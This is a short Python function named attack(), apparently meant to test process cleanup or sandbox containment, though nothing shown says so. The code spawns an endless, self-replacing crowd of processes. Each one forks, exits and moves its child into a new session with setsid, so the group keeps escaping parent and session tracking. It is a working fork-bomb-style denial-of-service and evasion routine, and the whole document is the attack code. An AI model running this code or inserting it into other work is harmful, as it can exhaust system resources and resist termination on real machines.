# Leaves a crowd in which each member forks, dies and is replaced, in new sessions, for ever.
def attack():
    import posix

    if posix.fork():
        return False
    for _ in range(3):
        try:
            posix.fork()
        except OSError:
            pass
    while True:
        try:
            if posix.fork():
                posix._exit(0)
            posix.setsid()
        except OSError:
            pass
